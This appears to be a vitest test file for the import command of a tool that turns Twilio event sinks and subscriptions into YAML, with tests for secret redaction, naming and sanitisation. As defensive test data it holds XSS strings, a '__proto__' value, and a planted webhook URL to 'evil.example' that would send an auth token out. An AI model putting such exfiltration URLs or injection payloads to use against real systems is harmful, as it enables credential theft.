import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadDesired } from '../../src/desired/load.js';
import { importSinks, plainDescription, sinkSchemaUrl, subscriptionDescription, type ImportSubscription } from '../../src/import/to-yaml.js';
import type { RemoteSink } from '../../src/remote/model.js';

const sid = (n: number): string => `DG${n.toString(16).padStart(32, '0')}`;
const sink = (n: number, sinkType: string, description: string, sinkConfiguration: Record<string, unknown>): RemoteSink => ({
  sid: sid(n),
  description,
  sinkType,
  sinkConfiguration,
  status: 'active',
  dateCreated: null,
  dateUpdated: null,
});

const KINESIS = { arn: 'arn:aws:kinesis:us-east-1:1:stream/s', role_arn: 'arn:aws:iam::1:role/r', external_id: 'very-secret-id' };

describe('importSinks', () => {
  it('pins each unmanaged sink by sid and replaces secrets with ${…} references', () => {
    const result = importSinks([sink(1, 'kinesis', 'Orders stream', KINESIS)], new Set());
    expect(result.sinks).toHaveLength(1);
    const [imported] = result.sinks;
    expect(imported?.name).toBe('orders-stream');
    expect(imported?.yaml).toContain(`sid: ${sid(1)}`);
    expect(imported?.yaml).toContain('external_id: ${ORDERS_STREAM_EXTERNAL_ID}');
    expect(imported?.yaml).not.toContain('very-secret-id');
    // The schema's published $id: an editor resolves it in any repository, not only inside sinkops's own.
    expect(imported?.yaml.split('\n')[0]).toBe('# yaml-language-server: $schema=https://raw.githubusercontent.com/sinkops/sinkops/v0/schemas/sink.schema.json');
    expect(imported?.variables).toEqual([{ name: 'ORDERS_STREAM_EXTERNAL_ID', holds: `external_id of ${sid(1)}` }]);
  });

  it('skips managed sinks, sinks the repository pins, and types sinkops does not manage', () => {
    const result = importSinks(
      [
        sink(1, 'email', 'Digest', {}),
        sink(2, 'webhook', 'Hook [sinkops:hook]', { destination: 'https://e.org', method: 'POST' }),
        sink(3, 'webhook', 'Pinned', { destination: 'https://e.org', method: 'POST' }),
      ],
      new Set(),
      new Map([[sid(3), 'pinned-hook']]),
    );
    expect(result.sinks).toEqual([]);
    expect(result.skipped.map((s) => s.sid)).toEqual([sid(1), sid(2), sid(3)]);
  });

  it('makes names unique against the repository and each other', () => {
    const hook = { destination: 'https://e.org', method: 'POST' };
    const result = importSinks([sink(1, 'webhook', 'Hook', hook), sink(2, 'webhook', 'Hook', hook), sink(3, 'webhook', '', hook)], new Set(['hook']));
    expect(result.sinks.map((s) => s.name)).toEqual(['hook-2', 'hook-3', 'webhook-000003']);
  });

  it('writes files that validate accepts, whatever the Console description held', async () => {
    const hostile = `<script>alert(1)</script> Orders\nhook [sinkops:x] <b ${'long '.repeat(60)}`;
    const dir = await mkdtemp(join(tmpdir(), 'sinkops-import-'));
    try {
      const result = importSinks([sink(1, 'webhook', hostile, { destination: 'https://e.org/h', method: 'GET', batch_events: 'true' })], new Set());
      for (const s of result.sinks) await writeFile(join(dir, `${s.name}.yaml`), s.yaml);
      const state = await loadDesired(dir, { cwd: dir, env: {} });
      expect(state.diagnostics).toEqual([]);
      expect(state.sinks[0]?.sinkConfiguration['batch_events']?.value).toBe(true);
      expect(state.sinks[0]?.description.length).toBeLessThanOrEqual(200);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('importSinks: remote values stay literal', () => {
  it('writes a Console value holding ${…} so that loading it gives the same text and references nothing', async () => {
    // Anyone who can edit sinks in the Console could plant this; after import, apply would otherwise
    // fill in the operator's credentials and send them to the destination.
    const destination = 'https://evil.example/in?t=${TWILIO_AUTH_TOKEN}&u=${HOME}&lit=$${x}';
    const result = importSinks([sink(1, 'webhook', 'Planted', { destination, method: 'POST' })], new Set());
    const dir = await mkdtemp(join(tmpdir(), 'sinkops-import-'));
    try {
      for (const s of result.sinks) await writeFile(join(dir, `${s.name}.yaml`), s.yaml);
      const state = await loadDesired(dir, { cwd: dir, env: { TWILIO_AUTH_TOKEN: 'operator-token', HOME: '/root' } });
      expect(state.diagnostics).toEqual([]);
      expect(state.sinks[0]?.sinkConfiguration['destination']).toEqual({ value: destination, sensitive: false, envRefs: [] });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('plainDescription', () => {
  it.each([
    ['Orders events', 'Orders events'],
    ['<b>bold</b> text', 'bold text'],
    ['a <script', 'a ‹script'],
    ['line one\nline two\t!', 'line one line two !'],
    ['x [sinkops:y]', 'x [sinkops y]'],
    ['   ', ''],
  ])('%j → %j', (input, output) => {
    expect(plainDescription(input)).toBe(output);
  });
});

describe('importSinks: subscriptions', () => {
  const HOOK = { destination: 'https://e.org/h', method: 'POST' };
  const dfSid = (n: number): string => `DF${n.toString(16).padStart(32, '0')}`;
  const sub = (n: number, sinkN: number, description: string, events: ImportSubscription['events']): ImportSubscription => ({
    sid: dfSid(n),
    description,
    sinkSid: sid(sinkN),
    events,
  });
  const ev = (type: string, schemaVersion: number) => ({ type, schemaVersion });

  async function loadWritten(result: ReturnType<typeof importSinks>) {
    const dir = await mkdtemp(join(tmpdir(), 'sinkops-import-'));
    try {
      for (const s of result.sinks) await writeFile(join(dir, `${s.name}.yaml`), s.yaml);
      return await loadDesired(dir, { cwd: dir, env: {} });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  }

  it('writes the subscriptions delivering to each imported sink, sid-pinned, named from their descriptions', async () => {
    const result = importSinks(
      [sink(1, 'webhook', 'Orders hook', HOOK), sink(2, 'webhook', 'Other hook', HOOK)],
      new Set(),
      new Map(),
      [
        sub(2, 1, 'Delivery receipts', [ev('com.twilio.messaging.message.failed', 2), ev('com.twilio.messaging.message.delivered', 2)]),
        sub(1, 1, 'Inbound', [ev('com.twilio.messaging.inbound-message.received', 1)]),
        sub(3, 2, 'Calls', [ev('com.twilio.voice.status-callback.call.completed', 1)]),
      ],
    );
    expect(result.sinks[0]?.yaml).toBe(
      [
        '# yaml-language-server: $schema=https://raw.githubusercontent.com/sinkops/sinkops/v0/schemas/sink.schema.json',
        `# Imported by \`sinkops import\` from ${sid(1)}.`,
        '',
        'name: orders-hook',
        'description: Orders hook',
        'sink_type: webhook',
        'sink_configuration:',
        '  destination: https://e.org/h',
        '  method: POST',
        `sid: ${sid(1)}`,
        'subscriptions:',
        '  - name: inbound',
        '    description: Inbound',
        '    events:',
        '      com.twilio.messaging.inbound-message.received: 1',
        `    sid: ${dfSid(1)}`,
        '  - name: delivery-receipts',
        '    description: Delivery receipts',
        '    events:',
        '      com.twilio.messaging.message.delivered: 2',
        '      com.twilio.messaging.message.failed: 2',
        `    sid: ${dfSid(2)}`,
        '',
      ].join('\n'),
    );
    expect(result.sinks.map((s) => [s.name, s.subscriptions])).toEqual([
      [
        'orders-hook',
        [
          { name: 'delivery-receipts', sid: dfSid(2) },
          { name: 'inbound', sid: dfSid(1) },
        ],
      ],
      ['other-hook', [{ name: 'calls', sid: dfSid(3) }]],
    ]);
    const state = await loadWritten(result);
    expect(state.diagnostics).toEqual([]);
    expect(state.sinks[0]?.subscriptions.map((s) => [s.name, s.sid, s.events.map((e) => [e.type, e.schemaVersion])])).toEqual([
      [
        'delivery-receipts',
        dfSid(2),
        [
          ['com.twilio.messaging.message.delivered', 2],
          ['com.twilio.messaging.message.failed', 2],
        ],
      ],
      ['inbound', dfSid(1), [['com.twilio.messaging.inbound-message.received', 1]]],
    ]);
  });

  it('writes no subscriptions key for a sink without any, and none for sinks it does not import', () => {
    const result = importSinks(
      [sink(1, 'webhook', 'Plain', HOOK), sink(2, 'webhook', 'Managed [sinkops:m]', HOOK), sink(3, 'webhook', 'Pinned', HOOK)],
      new Set(),
      new Map([[sid(3), 'pinned']]),
      [sub(1, 2, 'On managed', [ev('a.b', 1)]), sub(2, 3, 'On pinned', [ev('a.b', 1)])],
    );
    expect(result.sinks.map((s) => s.name)).toEqual(['plain']);
    expect(result.sinks[0]?.yaml).not.toContain('subscriptions');
    expect(result.sinks[0]?.subscriptions).toEqual([]);
    expect(result.skipped.filter((s) => s.subscription)).toEqual([]);
  });

  it('names them uniquely within the sink (not across sinks), with subscription-N when a description gives no name', async () => {
    const e = [ev('com.a.b', 1)];
    const result = importSinks(
      [sink(1, 'webhook', 'One', HOOK), sink(2, 'webhook', 'Two', HOOK)],
      new Set(),
      new Map(),
      [
        sub(1, 1, 'Status', e),
        sub(2, 1, 'status!', e),
        sub(3, 1, '', e),
        sub(4, 1, '!!! ???', e),
        sub(5, 1, 'Subscription 1', e),
        sub(6, 2, 'Status', e),
        sub(7, 2, '[sinkops:x#y]', e),
      ],
    );
    expect(result.sinks.map((s) => s.subscriptions.map((x) => `${x.name} ${x.sid.slice(-1)}`))).toEqual([
      ['status 1', 'status-2 2', 'subscription-1 3', 'subscription-1-2 5', 'subscription-2 4'],
      ['status 6', 'subscription-1 7'],
    ]);
    const state = await loadWritten(result);
    expect(state.diagnostics).toEqual([]);
    expect(state.sinks[1]?.subscriptions.find((s) => s.name === 'subscription-1')?.description).toBe(`Imported subscription ${dfSid(7)}`);
  });

  it('strips the sinkops marker of any stack and tidies a hostile description, so that validate accepts the file', async () => {
    const hostile = `<img src=x onerror=alert(1)> Receipts\nfor [sinkops:a] <b ${'very long '.repeat(40)} [sinkops:blue/orders#receipts]  `;
    const result = importSinks([sink(1, 'webhook', 'Hook', HOOK)], new Set(), new Map(), [
      sub(1, 1, 'Order status [sinkops:orders-webhook#order-status]', [ev('com.a.b', 1)]),
      sub(2, 1, hostile, [ev('com.a.c', 3)]),
    ]);
    const state = await loadWritten(result);
    expect(state.diagnostics).toEqual([]);
    const [first, second] = [...(state.sinks[0]?.subscriptions ?? [])].sort((a, b) => (a.sid ?? '').localeCompare(b.sid ?? ''));
    expect(first?.description).toBe('Order status');
    expect(first?.name).toBe('order-status');
    expect(second?.description).not.toMatch(/[<\n]|\[sinkops:/);
    expect(second?.description.length).toBeLessThanOrEqual(200);
    expect(second?.name).toMatch(/^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$/);
  });

  it('writes odd remote event types as they are, quoted where YAML needs it, so that validate points at them', async () => {
    const result = importSinks([sink(1, 'webhook', 'Hook', HOOK)], new Set(), new Map(), [
      sub(1, 1, 'Odd', [ev('__proto__', 1), ev('com.a.b: 2\n#', 0), ev('com.a.ok', 3)]),
    ]);
    const state = await loadWritten(result);
    expect(state.sinks).toEqual([]);
    expect(state.diagnostics.map((d) => [d.line, d.code, d.message.split(' in ')[0]])).toEqual([
      [15, 'SCHEMA', "event type '__proto__'"],
      [16, 'SCHEMA', "event type 'com.a.b: 2\\n#'"],
      [16, 'SCHEMA', "schema version of 'com.a.b: 2\\n#'"],
    ]);
  });

  it('leaves out (and reports) a subscription with no events, one deleted while read, and one the repository pins', () => {
    const result = importSinks(
      [sink(1, 'webhook', 'Hook', HOOK)],
      new Set(),
      new Map(),
      [sub(1, 1, 'Empty', []), sub(2, 1, 'Gone', undefined), sub(3, 1, 'Kept', [ev('com.a.b', 1)]), sub(4, 1, 'Pinned', [ev('com.a.b', 1)])],
      new Map([[dfSid(4), 'elsewhere#pinned']]),
    );
    expect(result.sinks[0]?.subscriptions).toEqual([{ name: 'kept', sid: dfSid(3) }]);
    expect(result.skipped).toEqual([
      { sid: dfSid(1), reason: 'it delivers no event types', subscription: true },
      { sid: dfSid(2), reason: 'it was deleted while import read it', subscription: true },
      { sid: dfSid(4), reason: 'already in the repository as elsewhere#pinned (sid pin)', subscription: true },
    ]);
  });
});

describe('subscriptionDescription', () => {
  it.each([
    ['Receipts [sinkops:orders#receipts]', 'Receipts'],
    ['Receipts [sinkops:blue/orders#receipts]  ', 'Receipts'],
    ['[sinkops:orders#receipts]', ''],
    ['a [sinkops:x] b', 'a [sinkops x] b'],
    ['<i>Hi</i>\nthere', 'Hi there'],
  ])('%j → %j', (input, output) => {
    expect(subscriptionDescription(input)).toBe(output);
  });
});

describe('the schema line of written files', () => {
  it("is schemas/sink.schema.json's $id, a published https URL of the project that holds plan.schema.json", async () => {
    const read = async (name: string) => JSON.parse(await readFile(new URL(`../../schemas/${name}`, import.meta.url), 'utf8')) as { $id?: string };
    const sinkId = (await read('sink.schema.json')).$id;
    const planId = (await read('plan.schema.json')).$id;
    expect(sinkSchemaUrl()).toBe(sinkId);
    // raw.githubusercontent.com/<owner>/<name>/<ref>/<path>: the same owner/name as the plan schema's $id.
    const [, owner, name, , ...path] = new URL(sinkId ?? '').pathname.split('/');
    expect(`https://github.com/${owner}/${name}/`).toBe(planId?.replace(/schemas\/plan\.schema\.json$/, ''));
    expect(path.join('/')).toBe('schemas/sink.schema.json');
  });
});
